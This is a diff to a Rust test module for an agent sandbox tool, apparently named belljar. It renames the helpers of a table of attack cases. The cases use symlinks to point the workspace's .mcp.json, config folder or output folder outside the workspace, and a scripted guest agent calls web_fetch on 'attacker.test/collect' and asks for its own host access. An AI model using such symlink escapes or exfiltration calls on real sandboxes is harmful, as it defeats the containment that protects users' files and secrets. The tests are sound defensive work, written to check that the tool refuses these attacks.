@@ -3,8 +3,8 @@
 
 use std::os::unix::fs::symlink;
 
-use super::row;
-use super::stage::Stage;
+use super::attack_row;
+use super::stage::LibraryStage;
 use crate::attack::Attack;
 
 const BELOW: &str = "names are opened from the open workspace, and no link is followed (INV-433)";
@@ -20,8 +20,8 @@ const ASKS: &str = "transcript: 1\nagents:\n  - agent: guest\n    turns:\n      
     [{name: web_fetch, arguments: {url: 'https://attacker.test/collect'}}]\n      - say: \
     Let me have the host.\n";
 
-pub(super) const ATTACKS: &[Attack<Stage>] = &[
-    row(
+pub(super) const ATTACKS: &[Attack<LibraryStage>] = &[
+    attack_row(
         "libraries-workspace-linked-client-file",
         "has the file of an MCP client lead to a person's token",
         BELOW,
@@ -30,11 +30,11 @@ pub(super) const ATTACKS: &[Attack<Stage>] = &[
         |stage| {
             Box::pin(async move {
                 symlink(stage.path("outside/secret.md"), stage.path("workspace/.mcp.json"))?;
-                stage.refuses_command(&["mcp", "config", "claude-code", "--write"]).await
+                stage.expect_command_refused(&["mcp", "config", "claude-code", "--write"]).await
             })
         },
     ),
-    row(
+    attack_row(
         "libraries-workspace-linked-folder",
         "has `.belljar` lead to a folder outside",
         BELOW,
@@ -47,11 +47,11 @@ pub(super) const ATTACKS: &[Attack<Stage>] = &[
                 std::fs::create_dir(&workspace)?;
                 symlink(stage.path("outside"), workspace.join(".belljar"))?;
                 let workspace = workspace.to_string_lossy();
-                stage.refuses_command(&["init", "--workspace", &workspace]).await
+                stage.expect_command_refused(&["init", "--workspace", &workspace]).await
             })
         },
     ),
-    row(
+    attack_row(
         "libraries-workspace-linked-output",
         "has a folder for output lead to a folder outside",
         BELOW,
@@ -60,11 +60,11 @@ pub(super) const ATTACKS: &[Attack<Stage>] = &[
         |stage| {
             Box::pin(async move {
                 symlink(stage.path("outside"), stage.path("workspace/out"))?;
-                stage.refuses_command(&["man", "out/pages"]).await
+                stage.expect_command_refused(&["man", "out/pages"]).await
             })
         },
     ),
-    row(
+    attack_row(
         "libraries-host-of-a-model",
         "asks for its own host, so that a command which opens it stands at the end",
         NAMED,
@@ -72,11 +72,11 @@ pub(super) const ATTACKS: &[Attack<Stage>] = &[
         false,
         |stage| {
             Box::pin(async move {
-                let script = stage.put("home/script.yaml", ASKS)?;
+                let script = stage.write_file("home/script.yaml", ASKS)?;
                 let script = script.to_string_lossy();
-                stage.put("home/agents/guest.md", GUEST)?;
+                stage.write_file("home/agents/guest.md", GUEST)?;
                 let run = ["run", "--no-save", "--agent", "guest", "--transcript", &script, "go"];
-                stage.says_without(&run, "belljar grant").await
+                stage.expect_output_without(&run, "belljar grant").await
             })
         },
     ),
